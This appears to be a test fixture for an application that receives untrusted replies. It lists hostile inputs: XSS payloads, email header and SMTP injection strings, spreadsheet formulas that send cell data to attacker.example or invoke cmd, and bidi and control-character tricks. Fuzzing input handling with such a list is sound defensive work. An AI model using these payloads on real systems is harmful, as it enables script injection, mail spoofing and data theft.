/** More than a hundred answers of an attacker, or of a phone that does something odd. */

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '</dd></dl></div><h1>Reply to evil@attacker.example</h1>',
  '<style>*{display:none}</style>',
  '<iframe src="https://attacker.example"></iframe>',
  '<svg onload=alert(1)>',
  '<form action="https://attacker.example"><input name=p></form>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<link rel=stylesheet href=//attacker.example/x.css>',
  '<!-- comment --><![CDATA[x]]><?php ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp; &nbsp;',
  '"\' onmouseover="alert(1)" x=\'',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=alert(1)>',
  '<textarea></title></textarea><script>1</script>',
  '{{constructor.constructor("alert(1)")()}} <%= 7*7 %>',
];

const headers = ['\r\n', '\n', '\r', '\0', '\u2028', '\v', '\f', '%0d%0a', '\\r\\n', '\u0085'].flatMap(
  (end) => [
    `a@visitor.example${end}Bcc: victim@attacker.example`,
    `x${end}Subject: owned${end}${end}<b>body</b>`,
    `x${end}.${end}MAIL FROM:<evil@attacker.example>${end}RCPT TO:<victim@attacker.example>`,
  ],
);

const addresses = [
  'a@b.example, victim@attacker.example',
  'a@b.example; victim@attacker.example',
  '"x" <victim@attacker.example>, a@b.example',
  'group: victim@attacker.example, a@b.example;',
  'a@b.example (victim@attacker.example)',
  '<victim@attacker.example>',
  'victim@attacker.example\u0000@b.example',
  '"victim@attacker.example "@b.example',
  '=?utf-8?q?victim=40attacker.example?=',
  'a@[127.0.0.1]',
  'a@b@c.example',
  `${'a'.repeat(300)}@b.example`,
];

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠'].flatMap((start) => [
  `${start}HYPERLINK("https://attacker.example?"&A1,"open")`,
  `${start}cmd|' /C calc'!A0`,
]);

const separators = [',', ';', '"', '""', '","=1+1', "'=1+1", ';=1+1', '\t', 'a,"b"\r\n"=1+1",c', '"\n=1+1'];

const unicode = [
  '\u202Etxt.exe\u202C',
  '\u2066\u202Eelpmaxe.rekcatta\u2069',
  '\u061c\u200f\u200e',
  '\ud800',
  '\udc00\ud800',
  'a\ud83d',
  '\uFEFF=1+1',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  '\u009b31m',
  'Z̸̢͝ǎ̴l̷g̸o̶',
  'Tēnā koe, ko Hōne tōku ingoa — “kia ora” 😀👩‍👩‍👧',
  'מה שלומך',
  'مرحبا',
  '\u0000\u0001\u0008\u007f\u0080',
  '   leading and trailing   ',
  '.\r\n..\r\n.hidden',
  'From somebody\n>From',
  '-----BEGIN AGE ENCRYPTED FILE-----',
  '=3D=0D=0A',
  '--boundary--',
];

const long = [
  'x'.repeat(1_000_000),
  '<b>'.repeat(100_000),
  `${'a'.repeat(998)} `.repeat(10),
  '\n'.repeat(5_000),
];

export const hostileAnswers = [
  ...markup,
  ...headers,
  ...addresses,
  ...formulas,
  ...separators,
  ...unicode,
  ...long,
];
